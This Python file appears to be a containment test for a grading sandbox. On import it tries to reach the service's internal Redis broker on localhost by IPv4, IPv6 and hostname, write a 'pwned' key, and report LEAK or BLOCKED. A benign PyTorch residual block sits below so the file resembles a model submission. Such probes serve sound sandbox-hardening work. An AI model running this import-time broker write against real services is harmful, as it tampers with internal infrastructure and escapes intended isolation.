"""Attack: talk to the service's Redis (the Celery broker) at 127.0.0.1:6379 over IPv4 and IPv6 and
write a key into it. Contained when no socket can reach it (and the key never appears)."""

import os
import sys

import torch
from torch import nn


def attempt(label, fn):
    """One probe: prints LEAK when it got what it must not, BLOCKED when the sandbox refused."""
    try:
        got = fn()
    except BaseException as exc:  # noqa: BLE001
        print(f"BLOCKED {label}: {type(exc).__name__}: {str(exc)[:100]}")
        return None
    print(f"LEAK {label}: {str(got)[:200]!r}")
    return got

import socket


def redis(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(addr)
    s.sendall(b"SET grader-attack-redis pwned\r\n")
    return s.recv(100)


attempt("redis over IPv4", lambda: redis(socket.AF_INET, ("127.0.0.1", 6379)))
attempt("redis over IPv6", lambda: redis(socket.AF_INET6, ("::1", 6379)))
attempt("redis by hostname", lambda: socket.create_connection(("localhost", 6379), timeout=1))


class IdentityBlock(nn.Module):
    def __init__(self, channels: int, kernel_size: int = 3):
        super().__init__()
        pad = kernel_size // 2
        self.conv1 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn1 = nn.BatchNorm2d(channels)
        self.conv2 = nn.Conv2d(channels, channels, kernel_size, padding=pad, bias=False)
        self.bn2 = nn.BatchNorm2d(channels)

    def forward(self, x):
        out = torch.relu(self.bn1(self.conv1(x)))
        return torch.relu(self.bn2(self.conv2(out)) + x)
